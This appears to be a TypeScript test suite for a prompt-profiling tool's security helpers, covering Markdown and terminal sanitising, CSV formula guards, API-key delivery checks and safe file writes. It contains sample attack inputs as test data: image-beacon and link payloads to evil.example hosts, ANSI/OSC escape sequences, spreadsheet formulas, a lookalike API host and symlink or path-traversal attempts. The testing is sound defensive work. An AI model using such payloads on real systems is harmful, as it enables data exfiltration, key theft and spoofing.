// The helpers behind issue 11: the trust rule, Markdown escaping (rendered by markdown-it with
// linkify on, as VS Code's preview does), terminal stripping, the CSV guard, private writes.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import MarkdownIt from 'markdown-it';
import { loadConfig, resolveFromEnv } from '../../src/cli/shared/config';
import { exportResults } from '../../src/core/batch';
import { PriceBook } from '../../src/core/pricing';
import { emptyUsage } from '../../src/core/types';
import { openPrivateFile, UnsafePathError, writePrivateFile } from '../../src/core/files';
import { csvField, markdownCell, markdownCode, markdownText, terminalSafe } from '../../src/core/text';
import { checkSecretDelivery, isLoopback, type SecretDelivery } from '../../src/core/trust';

const md = new MarkdownIt({ linkify: true, html: true });
const ATTACKS = [
  '![s](https://host.example/pixel.png?d=ROW_DATA)',
  '[click](http://evil.example)',
  '<img src="https://host.example/x.png">',
  '<https://evil.example/auto>',
  'see https://evil.example/bare and www.evil.example and evil.com or me@evil.com',
  '[ref]: https://evil.example\n\n[ref]',
  '`code` **bold** _em_ ~~del~~ &lt;entity&gt; a | b',
  '$(zap) x\\![i](http://e/p.png)',
];

describe('security helpers (issue 11)', () => {
  it('markdownText: no image, link, tag or formatting survives, and the text reads the same', () => {
    for (const a of ATTACKS) {
      const html = md.renderInline(markdownText(a));
      assert.doesNotMatch(html, /<(img|a|strong|em|s|code)\b/, `${a} → ${html}`);
      // What shows is the original text (whitespace folded), HTML-escaped by the renderer.
      const shown = html.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
      assert.equal(shown, a.replace(/\s+/g, ' '), a);
    }
    // Ordinary text stays as it was in the raw Markdown.
    assert.equal(markdownText('openai:gpt-4o-mini costs $0.15, 2.5 s (o200k_base, @pydantic/genai-prices)'), 'openai:gpt-4o-mini costs $0.15, 2.5 s (o200k_base, @pydantic/genai-prices)');
  });

  it('markdownCell keeps a table intact; markdownCode cannot be closed by backticks', () => {
    const table = md.render(`| a | b |\n|---|---|\n| ${markdownCell('x | ![i](http://e/p.png)\nnext')} | 2 |\n`);
    assert.equal((table.match(/<td>/g) ?? []).length, 2, table);
    assert.doesNotMatch(table, /<img|<a /);
    for (const id of ['x:a` ![i](http://e/p.png) [l](http://evil.example) `', '``x:y``', 'p:m|n']) {
      const html = md.render(`| ${markdownCode(id, true)} | 1 |\n|---|---|\n`);
      assert.doesNotMatch(html, /<img|<a /, html);
      assert.equal((html.match(/<th>/g) ?? []).length, 2, html);
      assert.ok(html.includes(`<code>${md.utils.escapeHtml(id)}</code>`), html);
    }
  });

  it('terminalSafe strips CSI, OSC 8 links, C0/C1 controls and a lone CR; keeps newline, tab and CRLF', () => {
    const e = '\x1b';
    assert.equal(terminalSafe(`${e}[31mred${e}[0m ${e}]8;;http://evil${e}\\link${e}]8;;\x07 ${e}]0;title\x07x\x9b2Jy\x07\x08z\tq\r\nlast\roverwrite`), 'red link xyz\tq\r\nlastoverwrite');
    assert.equal(terminalSafe('a\u202eb'), 'ab');
  });

  it("every CSV export guards = + - @ tab CR with ', numbers stay numbers", () => {
    for (const v of ['=HYPERLINK("http://x")', '+1', '-2', '@SUM(A1)', '\tx', '\rx']) assert.ok(csvField(v).replace(/^"/, '').startsWith("'"), v);
    assert.equal(csvField(-0.5), '-0.5');
    assert.equal(csvField('plain'), 'plain');
  });

  it('the batch export guards its cells', async () => {
    let out = '';
    await exportResults([{ customId: 'row-1', row: 1, ok: true, output: '@SUM(A1)', finishReason: 'stop' } as never], 'csv', (c) => void (out += c));
    assert.equal(out.split('\r\n')[1].split(',')[3], "'@SUM(A1)");
    // The history export's guard is tested in history-summary.test.ts (the same csvField).
  });

  describe('checkSecretDelivery', () => {
    const base: SecretDelivery = { provider: 'openai', type: 'openai', urlChosenBy: 'repository', secrets: [{ label: 'the key', chosenBy: 'user' }], repositoryTrusted: false };
    it('a repository URL is refused, the official host and user URLs are not, no secret is always fine', () => {
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'http://127.0.0.1:1/v1', urlSource: 'x.json' }), {
        ok: false,
        refused: 'url',
        what: 'http://127.0.0.1:1/v1',
        reason: 'Refused to send the key for openai to http://127.0.0.1:1/v1 (set in x.json): that URL comes from the repository, not from you, and could collect it.',
      });
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'https://api.openai.com/v1' }), { ok: true, warnings: [] });
      assert.equal(checkSecretDelivery({ ...base, baseURL: 'https://api.openai.com.evil.example/v1' }).ok, false);
      assert.equal(checkSecretDelivery({ ...base, baseURL: 'http://api.openai.com/v1' }).ok, false, 'the official host only over https');
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'http://127.0.0.1:1/v1', secrets: [] }), { ok: true, warnings: [] });
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'https://proxy.example/v1', urlChosenBy: 'user' }), { ok: true, warnings: [] });
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'https://gw.example/v1', repositoryTrusted: true }), { ok: true, warnings: [] });
    });
    it('a secret the repository chose is refused unless trusted; plain http off loopback warns', () => {
      const chosen = { ...base, baseURL: undefined, secrets: [{ label: 'the API key in GITHUB_TOKEN', chosenBy: 'repository' as const }] };
      assert.equal(checkSecretDelivery(chosen).ok, false);
      assert.equal(checkSecretDelivery({ ...chosen, repositoryTrusted: true }).ok, true);
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'http://10.0.0.5:8000/v1', urlChosenBy: 'user' }), {
        ok: true,
        warnings: ['openai: the key goes to http://10.0.0.5:8000/v1 over plain http, unencrypted: anyone on the network path can read it.'],
      });
      assert.deepEqual(checkSecretDelivery({ ...base, baseURL: 'http://localhost:8000/v1', urlChosenBy: 'user' }).ok && [], []);
      assert.deepEqual(['http://127.0.0.1:1', 'http://[::1]:2', 'http://localhost', 'http://10.0.0.1', 'http://127.0.0.1.evil.example'].map(isLoopback), [true, true, true, false, false]);
    });
  });

  it("the CLI resolver: a project turning anthropic into an OpenAI-format provider does not get the Anthropic key", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pp-resolve-'));
    try {
      fs.writeFileSync(path.join(dir, 'prompt-profiler.json'), JSON.stringify({ providers: { anthropic: { type: 'openai' } } }));
      const env = { ANTHROPIC_API_KEY: 'sk-ant-1234' };
      const refused = resolveFromEnv('anthropic', loadConfig(dir, { env }), env);
      assert.ok(!refused.ok && /^Refused to send the API key in ANTHROPIC_API_KEY for anthropic: the repository's config chose that secret/.test(refused.error.message));
      const trusted = resolveFromEnv('anthropic', loadConfig(dir, { env, trustConfig: true }), env);
      assert.ok(trusted.ok && trusted.config.apiKey === 'sk-ant-1234' && trusted.config.type === 'openai');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it("a workspace's price override says so in the cost's provenance (hover, panel, CodeLens, status bar show it)", () => {
    const book = new PriceBook({ 'openai:gpt-4o-mini': { input: 0, output: 0, origin: 'workspace settings' }, 'local:m': { input: 1, output: 2 } });
    const usage = { ...emptyUsage(), inputTokens: 1000, outputTokens: 10 };
    assert.equal(book.cost('openai:gpt-4o-mini', usage)?.provenance.detail, 'price override for openai:gpt-4o-mini from workspace settings');
    assert.equal(book.cost('local:m', usage)?.provenance.detail, 'price override for local:m');
  });

  it('private writes: 0600 files in 0700 folders, never through a link, a .gitignore in .prompt-profiler', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'pp-safe-'));
    try {
      const file = path.join(root, '.prompt-profiler', 'cache', 'ab', 'x.json');
      await writePrivateFile(file, '{}', root);
      assert.equal(fs.statSync(file).mode & 0o777, 0o600);
      assert.equal(fs.statSync(path.dirname(file)).mode & 0o777, 0o700);
      assert.equal(fs.statSync(path.join(root, '.prompt-profiler')).mode & 0o777, 0o700);
      assert.match(fs.readFileSync(path.join(root, '.prompt-profiler', '.gitignore'), 'utf8'), /^\*$/m);
      const target = path.join(root, 'target');
      fs.writeFileSync(target, 'mine');
      fs.symlinkSync(target, path.join(root, 'link'));
      await assert.rejects(openPrivateFile(path.join(root, 'link'), 'append', root), UnsafePathError);
      fs.symlinkSync(os.tmpdir(), path.join(root, 'dirlink'));
      await assert.rejects(writePrivateFile(path.join(root, 'dirlink', 'pp-should-not-exist'), 'x', root), /dirlink is a symbolic link/);
      await assert.rejects(writePrivateFile(path.join(root, '..', 'outside'), 'x', root), /is outside/);
      assert.equal(fs.readFileSync(target, 'utf8'), 'mine');
      assert.ok(!fs.existsSync(path.join(os.tmpdir(), 'pp-should-not-exist')));
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});
